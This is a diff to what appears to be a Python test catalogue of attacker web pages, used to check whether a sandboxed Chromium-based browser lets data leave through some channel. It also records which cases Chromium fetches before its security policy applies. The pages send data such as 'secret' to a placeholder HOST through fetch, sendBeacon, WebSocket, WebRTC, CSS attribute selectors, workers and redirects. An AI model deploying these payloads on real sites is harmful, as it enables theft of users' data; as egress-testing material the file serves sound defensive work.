@@ -4,32 +4,8 @@
 looked up, a connection opened or a request sent says which page did it.
 """
 
-from collections.abc import Mapping
-from dataclasses import dataclass, field
-from types import MappingProxyType
-
-_SCRIPT = "<!doctype html><body><script>{}</script>"
-_STYLE = "<!doctype html><style>{}</style><body><p id=secret class=secret>text</p><input value=secret>"
-
-
-@dataclass(frozen=True)
-class Page:
-    """`body` as the attacker's page; `headers` as the attacker's origin would add; `files` beside it, by name."""
-
-    name: str
-    body: str
-    media_type: str = "text/html"
-    headers: Mapping[str, str] = field(default_factory=dict[str, str])
-    files: Mapping[str, tuple[str, str]] = field(default_factory=dict[str, tuple[str, str]])
-
-
-def _script(name: str, code: str, files: Mapping[str, tuple[str, str]] = MappingProxyType({})) -> Page:
-    return Page(name, _SCRIPT.format(code), files=files)
-
-
-def _style(name: str, css: str) -> Page:
-    return Page(name, _STYLE.format(css))
-
+from exfiltration_rare import NOT_IN_THIS_BROWSER, RARE
+from pages import Page, script, style
 
 _LOADS = (
     Page("img src", "<img src=http://HOST/x.png>"),
@@ -57,26 +33,26 @@ _STYLES = (
     Page("style attribute", '<p style="background:url(http://HOST/x.png)">text'),
     Page("stylesheet link", "<link rel=stylesheet href=http://HOST/x.css>"),
     Page("alternate stylesheet link", '<link rel="alternate stylesheet" title=x href=http://HOST/x.css>'),
-    _style("@import", "@import url(http://HOST/x.css);"),
-    _style("@import in a layer", "@import 'http://HOST/x.css' layer(x) supports(display: grid);"),
-    _style("@font-face", "@font-face {font-family: x; src: url(http://HOST/x.woff2)} p {font-family: x}"),
-    _style(
+    style("@import", "@import url(http://HOST/x.css);"),
+    style("@import in a layer", "@import 'http://HOST/x.css' layer(x) supports(display: grid);"),
+    style("@font-face", "@font-face {font-family: x; src: url(http://HOST/x.woff2)} p {font-family: x}"),
+    style(
         "font that loads for one letter of the text",
         "@font-face {font-family: x; src: url(http://HOST/t.woff2); unicode-range: U+0074} p {font-family: x}",
     ),
-    _style("attribute selector that reads a value", "input[value^=s] {background: url(http://HOST/starts-with-s)}"),
-    _style("content", "p::before {content: url(http://HOST/x.png)}"),
-    _style("list-style-image", "p {display: list-item; list-style-image: url(http://HOST/x.png)}"),
-    _style("border-image", "p {border: 9px solid; border-image-source: url(http://HOST/x.png)}"),
-    _style("mask", "p {mask-image: url(http://HOST/x.svg)}"),
-    _style("image-set", "p {background: image-set('http://HOST/x.png' 1x)}"),
-    _style("custom property", "p {--u: url(http://HOST/x.png); background: var(--u)}"),
-    _style(
+    style("attribute selector that reads a value", "input[value^=s] {background: url(http://HOST/starts-with-s)}"),
+    style("content", "p::before {content: url(http://HOST/x.png)}"),
+    style("list-style-image", "p {display: list-item; list-style-image: url(http://HOST/x.png)}"),
+    style("border-image", "p {border: 9px solid; border-image-source: url(http://HOST/x.png)}"),
+    style("mask", "p {mask-image: url(http://HOST/x.svg)}"),
+    style("image-set", "p {background: image-set('http://HOST/x.png' 1x)}"),
+    style("custom property", "p {--u: url(http://HOST/x.png); background: var(--u)}"),
+    style(
         "delayed by an animation",
         "@keyframes k {from {background: none} to {background: url(http://HOST/x.png)}}"
         "p {animation: k 0.2s 0.3s forwards}",
     ),
-    _style("container query", "body {container-type: inline-size} @container (width > 0px) "
+    style("container query", "body {container-type: inline-size} @container (width > 0px) "
            "{p {background: url(http://HOST/x.png)}}"),
 )  # fmt: skip
 _SCRIPTS = (
@@ -87,50 +63,50 @@ _SCRIPTS = (
         '<script type=importmap>{"imports": {"x": "http://HOST/x.js"}}</script>'
         "<script type=module>import 'x'</script>",
     ),
-    _script("dynamic import", "import('http://HOST/x.js')"),
-    _script("fetch", "fetch('http://HOST/', {method: 'POST', body: 'secret', mode: 'no-cors'})"),
-    _script("fetch that outlives the page", "fetch('http://HOST/', {keepalive: true, mode: 'no-cors'})"),
-    _script("XMLHttpRequest", "x = new XMLHttpRequest(); x.open('GET', 'http://HOST/'); x.send()"),
-    _script("beacon", "navigator.sendBeacon('http://HOST/', 'secret')"),
-    _script("image object", "new Image().src = 'http://HOST/secret'"),
-    _script("EventSource", "new EventSource('http://HOST/')"),
-    _script("WebSocket", "new WebSocket('ws://HOST/')"),
-    _script("WebTransport", "new WebTransport('https://HOST/')"),
-    _script(
+    script("dynamic import", "import('http://HOST/x.js')"),
+    script("fetch", "fetch('http://HOST/', {method: 'POST', body: 'secret', mode: 'no-cors'})"),
+    script("fetch that outlives the page", "fetch('http://HOST/', {keepalive: true, mode: 'no-cors'})"),
+    script("XMLHttpRequest", "x = new XMLHttpRequest(); x.open('GET', 'http://HOST/'); x.send()"),
+    script("beacon", "navigator.sendBeacon('http://HOST/', 'secret')"),
+    script("image object", "new Image().src = 'http://HOST/secret'"),
+    script("EventSource", "new EventSource('http://HOST/')"),
+    script("WebSocket", "new WebSocket('ws://HOST/')"),
+    script("WebTransport", "new WebTransport('https://HOST/')"),
+    script(
         "WebRTC by STUN",
         "p = new RTCPeerConnection({iceServers: [{urls: 'stun:HOST:3478'}]});"
         "p.createDataChannel('x'); p.createOffer().then(o => p.setLocalDescription(o))",
     ),
-    _script(
+    script(
         "WebRTC by TURN over TCP",
         "p = new RTCPeerConnection({iceServers: [{urls: 'turn:HOST:443?transport=tcp',"
         " username: 'secret', credential: 'x'}]});"
         "p.createDataChannel('x'); p.createOffer().then(o => p.setLocalDescription(o))",
     ),
-    _script(
+    script(
         "worker of a blob",
         "new Worker(URL.createObjectURL(new Blob([\"fetch('http://HOST/', {mode: 'no-cors'})\"])))",
     ),
-    _script("shared worker", "new SharedWorker(\"data:text/javascript,fetch('http://HOST/', {mode: 'no-cors'})\")"),
-    _script(
+    script("shared worker", "new SharedWorker(\"data:text/javascript,fetch('http://HOST/', {mode: 'no-cors'})\")"),
+    script(
         "service worker",
         "navigator.serviceWorker.register('worker.js')",
         files={"worker.js": ("text/javascript", "fetch('http://HOST/', {mode: 'no-cors'})")},
     ),
-    _script("audio worklet", "new AudioContext().audioWorklet.addModule('http://HOST/x.js')"),
-    _script("paint worklet", "CSS.paintWorklet.addModule('http://HOST/x.js')"),
-    _script(
+    script("audio worklet", "new AudioContext().audioWorklet.addModule('http://HOST/x.js')"),
+    script("paint worklet", "CSS.paintWorklet.addModule('http://HOST/x.js')"),
+    script(
         "iframe of a blob",
         "f = document.createElement('iframe'); document.body.append(f);"
         "f.src = URL.createObjectURL(new Blob(['<img src=http://HOST/x>'], {type: 'text/html'}))",
     ),
-    _script(
+    script(
         "view transition",
         "s = document.createElement('style'); document.head.append(s);"
         "s.textContent = '::view-transition {background: url(http://HOST/x.png)}';"
         "document.startViewTransition(() => {})",
     ),
-    _script("constructed stylesheet", "s = new CSSStyleSheet(); s.replaceSync("
+    script("constructed stylesheet", "s = new CSSStyleSheet(); s.replaceSync("
             "'body {background: url(http://HOST/x.png)}'); document.adoptedStyleSheets = [s]"),
     Page("image error handler", "<img src=data:, onerror=\"fetch('http://HOST/')\">"),
     Page("details toggle handler", "<details open ontoggle=\"fetch('http://HOST/')\">x</details>"),
@@ -143,10 +119,10 @@ _SCRIPTS = (
 _NAVIGATIONS = (
     Page("meta refresh", '<meta http-equiv=refresh content="0; url=http://HOST/?secret">'),
     Page("Refresh header", "text", headers={"Refresh": "0; url=http://HOST/?secret"}),
-    _script("location", "location = 'http://HOST/?secret'"),
-    _script("window.open of a blank window", "open().location = 'http://HOST/'"),
-    _script("click on a link by script", "a = document.createElement('a'); a.href = 'http://HOST/'; a.click()"),
-    _script(
+    script("location", "location = 'http://HOST/?secret'"),
+    script("window.open of a blank window", "open().location = 'http://HOST/'"),
+    script("click on a link by script", "a = document.createElement('a'); a.href = 'http://HOST/'; a.click()"),
+    script(
         "ping of a link",
         "a = document.createElement('a'); a.href = '#x'; a.ping = 'http://HOST/'; a.click()",
     ),
@@ -213,4 +189,5 @@ BEYOND_THE_POLICY = ("iframe src", "frameset", "dns-prefetch", "preconnect")
 """Chromium looks up or connects for these before it asks the content security policy."""
 BEYOND_THE_ALLOWLIST = ("stylesheet link", "@import", "script src", "module script")
 """Chromium's preload scanner looks these up, now and then, before it asks the connection allowlist."""
-PAGES: tuple[Page, ...] = _LOADS + _STYLES + _SCRIPTS + _NAVIGATIONS + _HINTS + _OTHER_LANGUAGES
+PAGES: tuple[Page, ...] = _LOADS + _STYLES + _SCRIPTS + _NAVIGATIONS + _HINTS + _OTHER_LANGUAGES + RARE
+TRIED: tuple[Page, ...] = PAGES + NOT_IN_THIS_BROWSER
